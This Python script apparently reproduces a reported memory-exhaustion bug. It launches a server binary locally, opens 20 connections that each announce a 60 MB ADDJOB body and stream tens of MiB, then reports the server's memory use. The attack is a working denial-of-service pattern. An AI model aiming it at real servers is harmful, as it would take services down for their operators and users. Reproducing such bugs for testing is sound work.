#!/usr/bin/env python3
"""Issue #17's attack on a server binary: 20 connections each send the header
of a 60 MB ADDJOB body and then up to 50 MiB of it. Prints the server's RSS.

usage: rss_attack.py BINARY [--requirepass]
"""
import socket
import subprocess
import sys
import time

binary = sys.argv[1]
args = [binary, "--port", "0"]
if "--requirepass" in sys.argv[2:]:
    args += ["--requirepass", "pw"]
p = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
try:
    host, port = p.stdout.readline().split()[2].decode().rsplit(":", 1)

    def rss_mib():
        for line in open(f"/proc/{p.pid}/status"):
            if line.startswith("VmRSS"):
                return int(line.split()[1]) // 1024

    before = rss_mib()
    socks = []
    for _ in range(20):
        s = socket.create_connection((host, int(port)))
        s.sendall(b"*4\r\n$6\r\nADDJOB\r\n$1\r\nq\r\n$60000000\r\n")
        socks.append(s)
    chunk = b"x" * (1 << 20)
    for s in socks:
        s.settimeout(5)
        try:
            for _ in range(50):
                s.sendall(chunk)
        except OSError:
            pass
    time.sleep(1)
    print(f"RSS before: {before} MiB; after the attack: {rss_mib()} MiB")
finally:
    p.kill()
